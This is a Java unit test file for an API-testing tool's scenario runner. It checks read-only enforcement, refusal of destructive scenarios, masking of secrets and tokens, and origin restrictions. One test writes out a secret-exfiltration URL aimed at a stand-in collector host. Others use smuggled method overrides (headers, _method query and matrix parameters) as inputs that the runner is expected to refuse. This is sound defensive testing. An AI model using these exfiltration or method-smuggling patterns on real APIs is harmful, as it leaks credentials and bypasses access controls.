package io.qodex.domain.scenario;

import static org.assertj.core.api.Assertions.assertThat;

import io.qodex.domain.common.Secret;
import io.qodex.domain.environment.Appearance;
import io.qodex.domain.environment.Binding;
import io.qodex.domain.environment.Constraints;
import io.qodex.domain.environment.EnvironmentName;
import io.qodex.domain.environment.EnvironmentPreset;
import io.qodex.domain.environment.EnvironmentSummary;
import io.qodex.domain.environment.HttpUrl;
import io.qodex.domain.environment.Token;
import io.qodex.domain.environment.TokenSource;
import io.qodex.domain.environment.VariableResolver;
import io.qodex.domain.llm.CancelSignal;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/** The runner decides before sending: constraints, templates, tokens; and masks what it reports. */
class ScenarioRunnerTest {

    private static final String SECRET = "sk-very-secret-991";
    private static final String TOKEN = "tok-abcdef-123456";

    /** Records what would have been sent and answers with a scripted response. */
    private static final class FakeHttp implements ScenarioHttp {
        final List<Outgoing> sent = new ArrayList<>();
        Function<Outgoing, Answer> answer = o -> new Answer.Response(200, Map.of("content-type",
                List.of("application/json")), "{\"echo\": \"" + SECRET + " " + TOKEN + "\"}", false, Duration.ofMillis(3));

        @Override
        public Answer send(Outgoing request, CancelSignal cancel) {
            sent.add(request);
            return answer.apply(request);
        }
    }

    /** Every JSON body holds the same values, by path. */
    private static final class FakePaths implements JsonPaths {
        final Map<String, Object> values = new HashMap<>();

        @Override
        public Optional<String> problem(String path) {
            return Optional.empty();
        }

        @Override
        public Optional<Document> parse(String body) {
            return body.startsWith("{") ? Optional.of(path -> values.containsKey(path)
                    ? Optional.of(new Found(values.get(path))) : Optional.empty()) : Optional.empty();
        }
    }

    private final FakeHttp http = new FakeHttp();
    private final FakePaths paths = new FakePaths();
    private final ScenarioRunner runner = new ScenarioRunner(http, paths, Clock.systemUTC());

    private static RunTarget target(Constraints constraints) {
        EnvironmentSummary summary = new EnvironmentSummary(1, 1, new EnvironmentName("QA"),
                new HttpUrl("http://api.test"), Optional.empty(), EnvironmentPreset.CUSTOM,
                new Appearance(Optional.empty(), Optional.empty(), false), constraints, 0, 1);
        return new RunTarget(summary, (profile, captures) -> {
            Map<String, Binding> bindings = new HashMap<>();
            bindings.put("baseUrl", new Binding.Literal("http://api.test"));
            bindings.put("API_SECRET", new Binding.SecretValue(() -> Secret.copyOf(SECRET), false));
            captures.forEach((k, v) -> bindings.put(k, new Binding.Literal(v)));
            return new VariableResolver(bindings, true, false); // as runs resolve: masks without last four
        }, profile -> new Token(Secret.copyOf(TOKEN), TokenSource.STATIC_TOKEN), new RequestPacer(1000));
    }

    private static ScenarioStep step(String name, String method, String url, Expectations expect,
                                     Map<String, String> capture) {
        return new ScenarioStep(name, new RequestSpec(method, url, Map.of("X-Api-Secret", "${API_SECRET}"),
                method.equals("POST") ? Optional.of("{\"s\": \"${API_SECRET}\"}") : Optional.empty()), expect, capture);
    }

    private static ScenarioSpec scenario(boolean destructive, Optional<String> profile, ScenarioStep... steps) {
        return new ScenarioSpec("s", "", List.of(), Optional.empty(), destructive, false, profile, List.of(steps));
    }

    private static final Constraints WRITABLE = new Constraints(false, 1000, false, false);

    @Test
    void onAReadOnlyEnvironmentOnlySafeMethodsAreSent() {
        ScenarioResult result = runner.run(scenario(false, Optional.empty(),
                step("post", "POST", "${baseUrl}/items", Expectations.NONE, Map.of()),
                step("get", "GET", "${baseUrl}/items", Expectations.NONE, Map.of()),
                step("delete", "DELETE", "${baseUrl}/items/1", Expectations.NONE, Map.of())),
                Optional.empty(), target(new Constraints(true, 1000, true, true)), RunListener.NONE, new CancelSignal());
        assertThat(http.sent).extracting(ScenarioHttp.Outgoing::method).containsExactly("GET");
        assertThat(result.steps()).extracting(StepResult::outcome)
                .containsExactly(StepOutcome.REFUSED, StepOutcome.PASSED, StepOutcome.REFUSED);
        assertThat(result.status()).isEqualTo(RunStatus.FAILED);
    }

    @Test
    void aDestructiveScenarioIsRefusedWholeWhereNotAllowed() {
        ScenarioResult result = runner.run(scenario(true, Optional.of("admin"),
                step("get", "GET", "${baseUrl}/items", Expectations.NONE, Map.of())), Optional.empty(),
                target(WRITABLE), RunListener.NONE, new CancelSignal());
        assertThat(result.status()).isEqualTo(RunStatus.REFUSED);
        assertThat(result.summary()).isEqualTo("Refused: s is marked destructive and QA does not allow destructive "
                + "tests.");
        assertThat(http.sent).isEmpty();
    }

    @Test
    void capturesFlowIntoLaterStepsAndSecretsAndTokensAreMaskedInEveryExcerpt() {
        paths.values.put("$.id", java.math.BigInteger.valueOf(7));
        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"),
                step("list", "GET", "${baseUrl}/items", new Expectations(Optional.of(200), Map.of(), List.of(),
                        Map.of("Content-Type", "application/json"), Optional.of(10_000L)), Map.of("ID", "$.id")),
                step("create", "POST", "${baseUrl}/items/${ID}", Expectations.NONE, Map.of())),
                Optional.empty(), target(WRITABLE), RunListener.NONE, new CancelSignal());
        assertThat(result.status()).as(result.toString()).isEqualTo(RunStatus.PASSED);
        assertThat(http.sent.get(1).url()).hasToString("http://api.test/items/7");
        assertThat(http.sent.get(1).headers()).contains(Map.entry("Authorization", "Bearer " + TOKEN),
                Map.entry("X-Api-Secret", SECRET), Map.entry("Content-Type", "application/json"));
        assertThat(http.sent.get(1).body()).contains("{\"s\": \"" + SECRET + "\"}");
        for (StepResult step : result.steps()) {
            assertThat(step.toString()).doesNotContain(SECRET).doesNotContain(TOKEN);
            assertThat(step.responseExcerpt()).contains("****");
            assertThat(step.requestExcerpt()).contains("Authorization: Bearer ****");
        }
    }

    @Test
    void failedExpectationsSayWhatWasExpectedAndWhatCameBack() {
        paths.values.put("$.count", java.math.BigInteger.ONE);
        http.answer = o -> new ScenarioHttp.Answer.Response(404, Map.of(), "{}", false, Duration.ofMillis(80));
        ScenarioResult result = runner.run(scenario(false, Optional.empty(),
                step("get", "GET", "${baseUrl}/x", new Expectations(Optional.of(200),
                        Map.of("$.count", java.math.BigInteger.TWO), List.of("$.missing"), Map.of("X-A", "b"),
                        Optional.of(10L)), Map.of("NEXT", "$.nope"))),
                Optional.empty(), target(WRITABLE), RunListener.NONE, new CancelSignal());
        assertThat(result.steps().get(0).failedChecks()).extracting(c -> c.what() + ": " + c.expected() + " / "
                + c.actual()).containsExactly("status: 200 / 404", "$.count: 2 / 1", "$.missing: exists / (missing)",
                "header X-A: b / (missing)", "latency: ≤ 10 ms / 80 ms", "capture NEXT = $.nope: a value / (missing)");
        assertThat(ScenarioService.findings(result)).hasSize(6).allMatch(f -> f.severity().equals("medium"));
    }

    @Test
    void networkFailuresUnresolvableTemplatesAndStopsAreReportedNotThrown() {
        http.answer = o -> new ScenarioHttp.Answer.Failure("Nothing answers at api.test (connection refused).");
        CancelSignal stop = new CancelSignal();
        ScenarioResult result = runner.run(scenario(false, Optional.empty(),
                step("down", "GET", "${baseUrl}/a", Expectations.NONE, Map.of()),
                step("unknown", "GET", "${nowhere}/a", Expectations.NONE, Map.of()),
                step("relative", "GET", "/a", Expectations.NONE, Map.of())),
                Optional.empty(), target(WRITABLE), new RunListener() {
                    @Override
                    public void stepFinished(ScenarioSpec scenario, StepResult result) {
                        if (result.index() == 1) {
                            stop.cancel();
                        }
                    }
                }, stop);
        assertThat(result.steps()).extracting(StepResult::outcome)
                .containsExactly(StepOutcome.ERROR, StepOutcome.ERROR, StepOutcome.SKIPPED);
        assertThat(result.steps().get(0).message()).contains("Nothing answers at api.test (connection refused).");
        assertThat(result.steps().get(1).message().orElseThrow()).contains("nowhere");
        assertThat(result.status()).isEqualTo(RunStatus.CANCELLED);
        assertThat(http.sent).hasSize(1);
    }

    @Test
    void aProfileThatIsGoneIsAnErrorOfTheStepNotOfTheRun() {
        RunTarget target = target(WRITABLE);
        RunTarget ghost = new RunTarget(target.environment(), (profile, captures) -> {
            throw io.qodex.domain.common.QodexException.notFound("No profile named ghost in QA.");
        }, profile -> {
            throw io.qodex.domain.common.QodexException.notFound("No profile named ghost in QA.");
        }, target.pacer());
        ScenarioResult result = runner.run(scenario(false, Optional.of("ghost"),
                step("get", "GET", "${baseUrl}/a", Expectations.NONE, Map.of())), Optional.empty(), ghost,
                RunListener.NONE, new CancelSignal());
        assertThat(result.status()).isEqualTo(RunStatus.ERROR);
        assertThat(result.steps().get(0).message().orElseThrow()).contains("No profile named ghost in QA.");
        assertThat(http.sent).isEmpty();
    }

    @Test
    void aMethodOverrideHeaderIsRefusedOnAReadOnlyEnvironment() {
        ScenarioStep override = new ScenarioStep("sneaky", new RequestSpec("get", "${baseUrl}/items/1",
                Map.of("x-http-METHOD-override", "DELETE"), Optional.empty()), Expectations.NONE, Map.of());
        ScenarioResult result = runner.run(scenario(false, Optional.empty(), override), Optional.empty(),
                target(new Constraints(true, 1000, true, true)), RunListener.NONE, new CancelSignal());
        assertThat(result.steps().get(0).outcome()).isEqualTo(StepOutcome.REFUSED);
        assertThat(result.steps().get(0).message().orElseThrow()).contains("method-override header");
        assertThat(http.sent).isEmpty();
        runner.run(scenario(false, Optional.empty(), override), Optional.empty(), target(WRITABLE), RunListener.NONE,
                new CancelSignal());
        assertThat(http.sent).hasSize(1);
    }

    @Test
    void aSecretEchoedInOneStepAndCapturedIntoTheNextIsMaskedEverywhere() {
        paths.values.put("$.echo", SECRET + "-" + TOKEN);
        ScenarioStep echo = step("echo", "GET", "${baseUrl}/echo", Expectations.NONE, Map.of("LEAK", "$.echo"));
        ScenarioStep reuse = new ScenarioStep("reuse", new RequestSpec("GET", "${baseUrl}/x?s=${LEAK}",
                Map.of("X-Note", "${LEAK}"), Optional.empty()), new Expectations(Optional.of(500), Map.of("$.echo",
                "other"), List.of(), Map.of(), Optional.empty()), Map.of());
        ScenarioStep broken = new ScenarioStep("broken", new RequestSpec("GET", "${LEAK}", Map.of(), Optional.empty()),
                Expectations.NONE, Map.of());
        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"), echo, reuse, broken),
                Optional.empty(), target(WRITABLE), RunListener.NONE, new CancelSignal());
        assertThat(http.sent).hasSize(2);
        assertThat(http.sent.get(1).url().toString()).contains("sk-very-secret-991"); // sent as the scenario says
        assertThat(result.steps()).extracting(StepResult::outcome)
                .containsExactly(StepOutcome.PASSED, StepOutcome.FAILED, StepOutcome.ERROR);
        assertThat(result.toString()).doesNotContain(SECRET).doesNotContain(TOKEN).doesNotContain("z991")
                .doesNotContain("-991");
        assertThat(ScenarioService.findings(result).toString()).doesNotContain(SECRET).doesNotContain(TOKEN);
    }

    @Test
    void aStepOnlyTalksToItsEnvironmentsOrigins() {
        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"),
                step("exfiltrate", "GET", "http://collector.example/k?v=${API_SECRET}", Expectations.NONE, Map.of()),
                step("port", "GET", "http://api.test:8080/x", Expectations.NONE, Map.of()),
                step("scheme", "GET", "https://api.test/x", Expectations.NONE, Map.of()),
                step("fine", "GET", "HTTP://API.test:80/x", Expectations.NONE, Map.of())),
                Optional.empty(), target(WRITABLE), RunListener.NONE, new CancelSignal());
        assertThat(result.steps()).extracting(StepResult::outcome).containsExactly(StepOutcome.REFUSED,
                StepOutcome.REFUSED, StepOutcome.REFUSED, StepOutcome.PASSED);
        assertThat(result.steps().get(0).message().orElseThrow()).contains("http://collector.example:80 is not QA's "
                + "base URL or API base URL");
        assertThat(http.sent).hasSize(1);
        assertThat(result.toString()).doesNotContain(SECRET);
    }

    @Test
    void readOnlyAlsoRefusesBodiesOnSafeMethodsAndMethodQueryParameters() {
        ScenarioStep body = new ScenarioStep("get with body", new RequestSpec("GET", "${baseUrl}/x", Map.of(),
                Optional.of("{\"delete\": \"everything\"}")), Expectations.NONE, Map.of());
        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"), body,
                step("query", "GET", "${baseUrl}/items/1?a=1&_Method=DELETE", Expectations.NONE, Map.of()),
                step("encoded", "GET", "${baseUrl}/items/1?%5Fmethod=PUT", Expectations.NONE, Map.of())),
                Optional.empty(), target(new Constraints(true, 1000, true, true)), RunListener.NONE, new CancelSignal());
        assertThat(result.steps()).extracting(StepResult::outcome).containsOnly(StepOutcome.REFUSED);
        assertThat(http.sent).isEmpty();
    }

    @Test
    void aDeleteStepMakesAScenarioDestructiveWhateverItsFlagSays() {
        ScenarioResult result = runner.run(scenario(false, Optional.empty(),
                step("wipe", "DELETE", "${baseUrl}/items", Expectations.NONE, Map.of())), Optional.empty(),
                target(WRITABLE), RunListener.NONE, new CancelSignal());
        assertThat(result.status()).isEqualTo(RunStatus.REFUSED);
        assertThat(result.summary()).isEqualTo("Refused: s has a DELETE step and QA does not allow destructive tests.");
        assertThat(http.sent).isEmpty();
    }

    @Test
    void theTokenIsFetchedOnlyWhenAStepIsAboutToBeSent() {
        int[] logins = {0};
        RunTarget base = target(new Constraints(true, 1000, true, true));
        RunTarget counting = new RunTarget(base.environment(), base.resolvers(), profile -> {
            logins[0]++;
            return new Token(Secret.copyOf("{\"password\": \"p\\\"w-secret\"}"), TokenSource.HTTP_LOGIN);
        }, base.pacer());
        runner.run(scenario(false, Optional.of("admin"), step("post", "POST", "${baseUrl}/x", Expectations.NONE,
                Map.of())), Optional.empty(), counting, RunListener.NONE, new CancelSignal());
        assertThat(logins[0]).isZero();
        http.answer = o -> new ScenarioHttp.Answer.Response(200, Map.of(), "{\"got\": \""
                + o.headers().stream().filter(h -> h.getKey().equals("Authorization")).findFirst().orElseThrow()
                .getValue().replace("\\", "\\\\").replace("\"", "\\\"") + "\"}", false, Duration.ofMillis(1));
        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"), step("get", "GET", "${baseUrl}/x",
                Expectations.NONE, Map.of())), Optional.empty(), counting, RunListener.NONE, new CancelSignal());
        assertThat(logins[0]).isEqualTo(1);
        assertThat(result.steps().get(0).responseExcerpt()).doesNotContain("w-secret").contains("****");
    }

    @Test
    void aSecretAcrossTheCutOfAnActualValueIsMaskedWhole() {
        String padding = "P".repeat(490);
        paths.values.put("$.echo", padding + SECRET);
        ScenarioResult result = runner.run(scenario(false, Optional.empty(), step("echo", "GET", "${baseUrl}/e",
                new Expectations(Optional.empty(), Map.of("$.echo", "nope"), List.of(), Map.of(), Optional.empty()),
                Map.of())), Optional.empty(), target(WRITABLE), RunListener.NONE, new CancelSignal());
        String actual = result.steps().get(0).checks().get(0).actual();
        assertThat(actual).doesNotContain("sk-very").contains("****");
        assertThat(result.toString()).doesNotContain("sk-very-se");
    }

    @Test
    void theLoginIsNotSentForAStepThatIsRefusedOrCannotResolve() {
        int[] logins = {0};
        RunTarget base = target(WRITABLE);
        RunTarget counting = new RunTarget(base.environment(), base.resolvers(), profile -> {
            logins[0]++;
            return new Token(Secret.copyOf(TOKEN), TokenSource.HTTP_LOGIN);
        }, base.pacer());
        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"),
                step("elsewhere", "GET", "http://collector.example/x", Expectations.NONE, Map.of()),
                step("unknown", "GET", "${nowhere}/x", Expectations.NONE, Map.of())), Optional.empty(), counting,
                RunListener.NONE, new CancelSignal());
        assertThat(result.steps()).extracting(StepResult::outcome).containsExactly(StepOutcome.REFUSED,
                StepOutcome.ERROR);
        assertThat(logins[0]).isZero();
        assertThat(http.sent).isEmpty();
    }

    @Test
    void readOnlyRefusesAnnouncedBodiesAndMethodParametersAnywhereInTheUrl() {
        ScenarioStep chunked = new ScenarioStep("chunked", new RequestSpec("GET", "${baseUrl}/x",
                Map.of("Transfer-Encoding", "chunked"), Optional.empty()), Expectations.NONE, Map.of());
        ScenarioResult result = runner.run(scenario(false, Optional.empty(), chunked,
                step("matrix", "GET", "${baseUrl}/m;_method=DELETE", Expectations.NONE, Map.of()),
                step("semicolon", "GET", "${baseUrl}/m?a=1;_method=DELETE", Expectations.NONE, Map.of()),
                step("bracket", "GET", "${baseUrl}/m?_method[]=PUT", Expectations.NONE, Map.of())),
                Optional.empty(), target(new Constraints(true, 1000, true, true)), RunListener.NONE, new CancelSignal());
        assertThat(result.steps()).extracting(StepResult::outcome).containsOnly(StepOutcome.REFUSED);
        assertThat(http.sent).isEmpty();
    }
}
